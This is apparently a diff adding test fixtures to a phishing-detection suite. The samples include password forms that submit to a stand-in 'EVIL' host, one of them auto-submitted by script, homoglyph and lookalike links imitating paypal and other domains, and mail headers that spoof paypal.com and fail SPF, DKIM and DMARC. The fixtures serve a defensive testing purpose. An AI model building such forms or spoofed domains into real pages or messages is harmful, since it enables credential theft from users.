@@ -25,6 +25,9 @@ PAGES = {
     "base-twice": "<base href=/one/><base href=/two/><a href=x>x</a><a href='#s'>s</a>",
     "form": f"<form action={EVIL}>{PASSWORD}</form><form action=mailto:a@b.test>",
     "form-http": "<form action=http://page.test/in>" + PASSWORD,
+    "form-button": f"<form action=/own>{PASSWORD}<button formaction={EVIL}>Go</button></form>",
+    "form-itself": f"<form id=f action={EVIL}></form><script>f.submit()</script>",
+    "mixed": "<a href=https://p\u0430ypal.test/>x</a><a href=https://paypal.com.evil.test/>y</a>",
     "refresh": f"<meta http-equiv=refresh content='0; url={EVIL}'>",
     "refresh-late": f"<meta http-equiv=refresh content='600;{EVIL}'>",
     "ping": f"<a href=/here ping='{EVIL} /own'>x</a>",
@@ -93,6 +96,16 @@ MAILS = {
     "several": mail("From: a@a.test, b@evil.test"),
     "several-sender": mail("From: a@a.test, b@b.test\nSender: c@c.test"),
     "failed": mail(FAILED),
+    "failed-all": mail(
+        "From: A <a@paypal.com>\nAuthentication-Results: mx.b.test; spf=fail smtp.mailfrom=a.test;"
+        " dkim=fail header.d=a.test; dmarc=fail header.from=a.test; compauth=fail"
+    ),
+    "dmarc-alone": mail("Authentication-Results: mx.b.test; dmarc=pass; spf=softfail; dkim=none"),
+    "alike-sender": mail(
+        "From: A <a@some-company.test>",
+        "<a href=https://s\u043ememany.test/>x</a>"
+        "<a href=https://some-cornpany.test/>y</a><a href=https://some-company.test.evil.test/>z</a>",
+    ),
     "unsigned": mail("Authentication-Results: mx.b.test; dkim=none; spf=none"),
     "lure": mail(
         "Subject: Your account will be suspended within 24 hours",
@@ -170,6 +183,7 @@ SITE: dict[str, str | bytes] = {
     "other.html": "<p id=a><p id=a><p id=b><p id=b><a href=index.html>x</a><a name=c></a>",
     "ids.html": "".join(f"<p id=n{at}><p id=n{at}>" for at in range(25)),
     "deep/page.html": "<a href=other.html>x</a><a href=../other.html>y</a><a href=style.css>z</a>",
+    "top.html": "<a href=../other.html>x</a><a href=../../gone.html>y</a>",
     "deep/more.html": "<img src=i.png><a href=../../../other.html>y</a>",
     "404.html": "<a href=other.html>x</a><link rel=stylesheet href=/docs/deep/style.css>",
     "lonely.html": "<p>nothing",
